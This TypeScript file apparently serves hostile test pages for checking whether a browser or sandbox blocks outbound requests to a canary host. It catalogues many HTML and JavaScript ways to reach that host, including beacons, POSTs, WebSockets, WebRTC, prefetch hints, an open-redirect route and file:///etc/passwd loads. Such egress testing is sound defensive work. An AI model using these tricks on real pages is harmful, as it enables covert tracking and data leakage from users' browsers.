import { bytesPage, type Page, redirectPage } from './web-site.ts';

/** Ways in which a page can make a browser reach for an address. `$` is `host:port` of the canary, `~` a number of its own. */
const TRICKS: Record<string, string> = {
  iframe: '<iframe src="http://$/"></iframe>',
  srcdoc: '<iframe srcdoc="<img src=http://$/srcdoc>"></iframe>',
  image:
    '<img src="http://$/img"><img srcset="http://$/srcset 1x"><picture><source srcset="http://$/source"><img></picture>',
  script: '<script src="http://$/script"></script><script type=module src="http://$/module"></script>',
  style:
    '<link rel=stylesheet href="http://$/css"><style>@import "http://$/import"; body{background:url(http://$/bg)}</style>',
  font: '<style>@font-face{font-family:f;src:url(http://$/font)} b{font-family:f}</style><b>text</b>',
  media:
    '<video src="http://$/video" preload=auto poster="http://$/poster"></video><audio src="http://$/audio" preload=auto></audio>',
  embed: '<object data="http://$/object"></object><embed src="http://$/embed">',
  svg: '<svg><image href="http://$/svg"/><use href="http://$/use#a"/></svg>',
  hints:
    '<link rel=preconnect href="http://$/"><link rel=dns-prefetch href="http://$/"><link rel=prefetch href="http://$/prefetch"><link rel=preload as=image href="http://$/preload"><link rel=modulepreload href="http://$/mp">',
  prerender:
    '<script type=speculationrules>{"prerender":[{"source":"list","urls":["http://$/prerender"]}],"prefetch":[{"source":"list","urls":["http://$/spec"]}]}</script>',
  fetch:
    '<script>fetch("http://$/fetch").then(r=>r.text()).then(t=>document.body.append(t)).catch(()=>0);fetch("http://$/nocors",{mode:"no-cors"}).catch(()=>0)</script>',
  xhr: '<script>x~=new XMLHttpRequest;x~.open("GET","http://$/xhr");x~.onload=()=>document.body.append(x~.responseText);x~.send()</script>',
  post: '<script>fetch("http://$/post",{method:"POST",mode:"no-cors",body:"x"}).catch(()=>0);navigator.sendBeacon("http://$/beacon","x")</script>',
  websocket: '<script>new WebSocket("ws://$/ws")</script>',
  events: '<script>new EventSource("http://$/events")</script>',
  worker:
    '<script>new Worker(URL.createObjectURL(new Blob([`importScripts("http://$/import");`])));new Worker(URL.createObjectURL(new Blob([`fetch("http://$/worker",{mode:"no-cors"});new WebSocket("ws://$/workerws")`])))</script>',
  shared:
    '<script>new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://$/shared",{mode:"no-cors"})`])))</script>',
  service: '<script>navigator.serviceWorker?.register("/sw.js").catch(()=>0)</script>',
  popup:
    '<script>open("http://$/popup")</script><a id=a~ href="http://$/click" target=_blank>x</a><script>a~.click()</script>',
  form: '<iframe name=f~></iframe><form id=g~ action="http://$/form" target=f~ method=post></form><script>g~.submit()</script>',
  framerefresh: '<iframe srcdoc="<meta http-equiv=refresh content=\'0;url=http://$/refresh\'>"></iframe>',
  webrtc:
    '<script>p~=new RTCPeerConnection({iceServers:[{urls:["stun:$"]},{urls:["turn:$?transport=tcp","turn:$?transport=udp"],username:"u",credential:"c"}]});p~.createDataChannel("x");p~.createOffer().then(o=>p~.setLocalDescription(o))</script>',
  webtransport: '<script>try{new WebTransport("https://$/wt").ready.catch(()=>0)}catch{}</script>',
  redirects:
    '<img src="/away?to=http://$/r1"><iframe src="/away?to=http://$/r2"></iframe><script src="/away?to=http://$/r3"></script><script>fetch("/away?to=http://$/r4",{mode:"no-cors"}).catch(()=>0)</script>',
  https:
    '<img src="https://$/tls"><iframe src="https://$/tlsframe"></iframe><script>new WebSocket("wss://$/wss")</script>',
  ftp: '<iframe src="ftp://$/"></iframe><iframe src="file:///etc/passwd"></iframe><img src="file:///etc/hostname">',
};

/** Tricks at `/tricks?names=a,b&at=<host:port>,<host:port>`, each for every target, and ways to lead the whole page away. */
export function hostilePages(): Record<string, Page> {
  return {
    '/away': (request, response, url) =>
      redirectPage(url.searchParams.get('to') ?? '')(request, response, url),
    '/sw.js': bytesPage('self.onfetch = () => 0; fetch("/sw-ran")', { 'content-type': 'text/javascript' }),
    '/tricks': tricks(),
    '/leave': at('<script>location.href = "http://$/leave"</script>'),
    '/refresh': at('<meta http-equiv="refresh" content="0;url=http://$/main-refresh">'),
  };
}

export const TRICK_NAMES = Object.keys(TRICKS);

function tricks(): Page {
  return (_request, response, url) => {
    const markup = (url.searchParams.get('names') ?? '').split(',').map((name) => TRICKS[name] ?? '');
    const targets = (url.searchParams.get('at') ?? '').split(',');
    const body = targets.map((target, index) =>
      markup.join('').replaceAll('$', target).replaceAll('~', String(index)),
    );
    send(response, body.join(''));
  };
}

function at(markup: string): Page {
  return (_request, response, url) =>
    send(response, markup.replaceAll('$', url.searchParams.get('at') ?? ''));
}

function send(response: Parameters<Page>[1], body: string): void {
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  response.end(`<!doctype html><title>hostile</title><body><p>here</p>${body}`);
}
